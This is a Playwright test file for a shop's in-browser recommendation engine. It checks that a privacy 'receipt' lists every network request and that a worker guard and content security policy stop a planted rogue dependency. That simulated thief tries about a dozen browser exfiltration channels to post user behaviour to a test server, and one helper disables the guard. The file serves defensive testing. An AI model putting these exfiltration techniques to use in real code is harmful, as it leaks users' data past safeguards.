import type { Page } from '@playwright/test';
import type { Receipt } from '../src/page/receipt.js';
import { type ForeignServer, startForeignServer } from './support/foreign-server.js';
import { engineStatus, slateOn, track } from './support/page-api.js';
import { askWorker, type Planted, plant } from './support/planted.js';
import { policyOf } from './support/policies.js';
import { test as base, expect } from './support/test.js';

const HEART = '85123A';

const test = base.extend<{ thief: ForeignServer }>({
  async thief({ shop }, use) {
    const thief = await startForeignServer();
    shop.allow(thief.url);
    await use(thief);
    await thief.close();
  },
});

test('the receipt is the network log: every request of this page and of those before, each the GET of a static file', async ({
  shop,
  page,
}) => {
  // Without consent: the script, and what lists it.
  await shop.visit('consent.html');
  expect(pathsOf(await receiptOn(page))).toEqual(['/dist/auto.js', '/dist/receipt.js']);

  for (const path of ['wasm.html', 'cart.html']) {
    await shop.visit(path);
    await shopOn(page);
  }
  const receipt = await receiptOn(page);
  // The cards' pictures are a channel of their own.
  const asked = shop.requested.map((url) => new URL(url).pathname).filter((path) => !/^\/(pages|img)\//.test(path));
  expect(new Set(pathsOf(receipt))).toEqual(new Set(asked));
  expect(receipt.requests.filter(({ url }) => url.endsWith('manifest.json'))).toHaveLength(2);
  expect(receipt.requests.filter(({ what }) => what === 'wasm')).toHaveLength(1);
  expect(receipt.requests.filter(({ what, url }) => what === 'other' || new URL(url).search)).toEqual([]);
  for (const { bytes = -1, from } of receipt.requests) expect(from === 'cache' ? bytes === 0 : bytes > 0).toBe(true);
  expect(receipt.behaviourBytesSent).toBe(0);
  expect(receipt.channels.filter(({ isOn }) => isOn).map(({ name }) => name)).toContain('card-images');

  // What the device keeps of it goes with everything else.
  await page.evaluate(() => window.tillside?.forget());
  expect((await receiptOn(page)).requests.filter(({ what }) => what === 'bundle')).toEqual([]);
});

test('what the browser lists late is on the receipt too, the first that is asked for', async ({ shop, page }) => {
  await shop.alter('/dist/worker.js', (bytes) => `(${listLate})(300);\n${bytes}`);
  await shop.visit('cart.html');
  const found = pathsOf(await receiptOn(page));
  expect(modelsIn(found)).toEqual(modelsIn(shop.requested));
  expect(modelsIn(found).length).toBeGreaterThan(8);
});

test('what a starved browser lists seconds late is on the next receipt', async ({ shop, page }) => {
  await shop.alter('/dist/worker.js', (bytes) => `(${listLate})(2_500);\n${bytes}`);
  await shop.visit('cart.html');
  expect(modelsIn(pathsOf(await receiptOn(page))).length).toBeLessThan(2); // what the page itself asked for
  await expect.poll(async () => modelsIn(pathsOf(await receiptOn(page)))).toEqual(modelsIn(shop.requested));
});

/** The bundle's files among these, in order. */
const modelsIn = (urls: readonly string[]) =>
  urls
    .map((url) => new URL(url, 'https://shop.example').pathname)
    .filter((path) => path.startsWith('/models/'))
    .sort();

/** A busy browser tells of a request some time after its body was read. */
const listLate = (ms: number) => {
  const list = performance.getEntriesByType.bind(performance);
  performance.getEntriesByType = (type) =>
    list(type).filter((entry) => (entry as PerformanceResourceTiming).responseEnd < performance.now() - ms);
};

/** What a dependency does that was taken over: it keeps what it finds when it is loaded, and has behaviour to send when the worker has started. */
const THIEF: Planted = {
  after: () => void Object.assign(self, { kept: self.fetch }),
  probes: {
    /** Tries every way out; says how each ended, once all have. */
    steal: async (thief: string): Promise<(readonly [way: string, end: string])[]> => {
      const loot = encodeURIComponent(JSON.stringify({ itemId: '85123A', dwellMs: 4_000 }));
      const { kept, importScripts } = self as unknown as { kept: typeof fetch; importScripts(url: string): void };
      const held: EventTarget[] = [];
      const opened = (target: EventTarget, sign: string) =>
        new Promise((resolve, reject) => {
          held.push(target); // no collector takes it before it has answered
          target.addEventListener(sign, resolve);
          target.addEventListener('error', reject);
        });
      const viaRequest = (request: XMLHttpRequest, url: string) => {
        request.open('POST', url);
        request.send(loot);
        return opened(request, 'load');
      };
      const viaWorker = (url: string) => URL.createObjectURL(new Blob([`fetch("${url}").then(() => postMessage(1))`]));
      const ways: readonly (readonly [string, (url: string) => unknown])[] = [
        ['fetch', (url) => fetch(url, { method: 'POST', body: loot })],
        ['fetch-kept', (url) => kept(url)],
        ['fetch-of-prototype', (url) => Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, url)],
        ['XMLHttpRequest', (url) => viaRequest(new XMLHttpRequest(), url)],
        ['WebSocket', (url) => opened(new WebSocket(url.replace('http', 'ws')), 'open')],
        ['EventSource', (url) => opened(new EventSource(url), 'open')],
        ['Worker', (url) => opened(new Worker(viaWorker(url)), 'message')],
        ['FontFace', (url) => new FontFace('loot', `url("${url}")`).load()],
        ['cache', (url) => caches.open('loot').then((cache) => cache.add(url))],
        ['importScripts', (url) => importScripts(url)],
        ['sendBeacon', (url) => navigator.sendBeacon(url, loot)],
        ['import', (url) => import(url)],
      ];
      const endOf = async ([name, way]: (typeof ways)[number]) => {
        const late = new Promise((resolve) => setTimeout(resolve, 8_000, 'unanswered'));
        try {
          const end = await Promise.race([Promise.resolve(way(`${thief}/${name}?${loot}`)).then(() => 'out'), late]);
          return [name, String(end)] as const;
        } catch (error) {
          return [name, String(error)] as const;
        }
      };
      return Promise.all(ways.map(endOf));
    },
  },
};

/** What closes our wall does nothing. */
const takeOurWallDown = () => {
  Reflect.defineProperty = () => true;
};

for (const { walls, hasOurs, hasPolicy, getsOut } of [
  {
    walls: 'no wall: it succeeds, ten times',
    hasOurs: false,
    hasPolicy: false,
    getsOut: [
      ...[
        'EventSource',
        'FontFace',
        'WebSocket',
        'Worker',
        'XMLHttpRequest',
        'cache',
        'fetch',
        'fetch-kept',
        'fetch-of-prototype',
      ],
      'import',
    ],
  },
  { walls: "the worker's own: only import() is left, as docs/csp.md says", hasOurs: true, hasPolicy: false, getsOut: ['import'] },
  { walls: 'the policy of docs/csp.md: nothing gets out', hasOurs: false, hasPolicy: true, getsOut: [] },
  { walls: 'both: nothing gets out', hasOurs: true, hasPolicy: true, getsOut: [] },
]) {
  test(`a dependency steals behaviour, against ${walls}`, async ({ shop, page, thief }) => {
    const policy = hasPolicy ? policyOf('worker.js', { shop: shop.url }) : {};
    await plant(shop, { ...THIEF, ...(!hasOurs && { before: takeOurWallDown }) }, policy);
    await shop.visit('cart.html');
    await shopOn(page);
    const ends = await askWorker<[string, string][]>(page, 'steal', thief.url);
    const stolen = thief.received.map((line) => /\/([\w-]+)\?.*85123A/.exec(line)?.[1]);
    expect(stolen.sort()).toEqual([...getsOut].sort());
    const refused = ends.filter(([, end]) => end === 'TypeError: network-given-up').map(([way]) => way);
    const ours = ends.map(([way]) => way).filter((way) => !['import', 'sendBeacon'].includes(way));
    expect(refused).toEqual(hasOurs ? ours : []);
    // What was tried in vain has not hurt the shop.
    expect((await slateOn(page)).strategy).toBe('model');
  });
}

async function shopOn(page: Page): Promise<void> {
  expect((await engineStatus(page)).strategy).toBe('model');
  await track(page, { type: 'view_item', itemId: HEART }, { type: 'add_to_cart', itemId: HEART });
  expect((await slateOn(page)).strategy).toBe('model');
}

function receiptOn(page: Page): Promise<Receipt> {
  return page.evaluate(() => window.tillside?.receipt() as Promise<Receipt>);
}

function pathsOf({ requests }: Receipt): string[] {
  return requests.map(({ url }) => new URL(url).pathname);
}
